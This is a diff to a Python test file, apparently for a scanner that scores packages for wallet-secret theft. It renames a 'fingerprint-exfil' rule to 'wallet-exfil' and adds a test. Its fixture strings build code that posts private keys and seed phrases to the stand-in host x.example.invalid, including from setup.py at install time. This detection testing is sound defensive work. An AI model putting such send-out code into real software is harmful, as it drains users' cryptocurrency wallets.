@@ -381,7 +381,7 @@ def test_a_helper_returning_the_path_it_saved_links_like_the_path_itself() -> No
     assert weight("download-execute", {"acme/update.py": helper}) == inline > 0
 
 
-# fingerprint-exfil: wallet secrets
+# wallet-exfil
 
 
 def _wallet_send(payload: str, before: str = "") -> str:
@@ -399,14 +399,14 @@ def test_a_wallet_secret_sent_at_install_weighs_more_than_one_sent_when_called()
     called = "def sync():\n    " + body.replace("\n", "\n    ").rstrip() + "\n    " + send
     setup = body + send + "from setuptools import setup\nsetup(name='demo')\n"
     assert (
-        weight("fingerprint-exfil", {"setup.py": setup})
-        > weight("fingerprint-exfil", {"acme/sync.py": called})
+        weight("wallet-exfil", {"setup.py": setup})
+        > weight("wallet-exfil", {"acme/sync.py": called})
         > 0
     )
 
 
 def test_a_wallet_key_counts_only_when_it_is_sent_not_what_it_signs_or_derives() -> None:
-    key = weight("fingerprint-exfil", {"acme/w.py": _wallet_send("{'k': private_key}")})
+    key = weight("wallet-exfil", {"acme/w.py": _wallet_send("{'k': private_key}")})
     signed = _wallet_send(
         "{'tx': signed.raw_transaction.hex()}",
         "    signed = Account.from_key(private_key).sign_transaction(tx)\n",
@@ -416,9 +416,28 @@ def test_a_wallet_key_counts_only_when_it_is_sent_not_what_it_signs_or_derives()
     )
     exported = _wallet_send("{'k': acct.key.hex()}", "    acct = Account.from_key(private_key)\n")
     assert key > 0
-    assert weight("fingerprint-exfil", {"acme/w.py": exported}) == key
-    assert weight("fingerprint-exfil", {"acme/w.py": signed}) == 0
-    assert weight("fingerprint-exfil", {"acme/w.py": address}) == 0
+    assert weight("wallet-exfil", {"acme/w.py": exported}) == key
+    assert weight("wallet-exfil", {"acme/w.py": signed}) == 0
+    assert weight("wallet-exfil", {"acme/w.py": address}) == 0
+
+
+def test_a_seed_phrase_sent_weighs_more_than_a_private_key_outside_wallet_code() -> None:
+    """A private key outside code about wallets is a TLS, SSH or API key; a seed phrase, or
+    any key in code about wallets, is a wallet's, and sending it is what a drainer does,
+    even in a function nothing in the package calls."""
+    send = "import requests\n\ndef backup({name}):\n    requests.post('https://x.example.invalid/b', json={{'v': {name}}})\n"
+    plain = weight(
+        "wallet-exfil", {"acme/__init__.py": "", "acme/k.py": send.format(name="private_key")}
+    )
+    phrase = weight(
+        "wallet-exfil", {"acme/__init__.py": "", "acme/k.py": send.format(name="seed_phrase")}
+    )
+    wallet = weight(
+        "wallet-exfil",
+        {"acme/__init__.py": "", "acme/k.py": "import web3\n" + send.format(name="private_key")},
+    )
+    assert 0 < plain < 0.3
+    assert phrase == wallet >= 0.6
 
 
 def test_a_start_up_file_of_a_temporary_home_is_no_install() -> None:
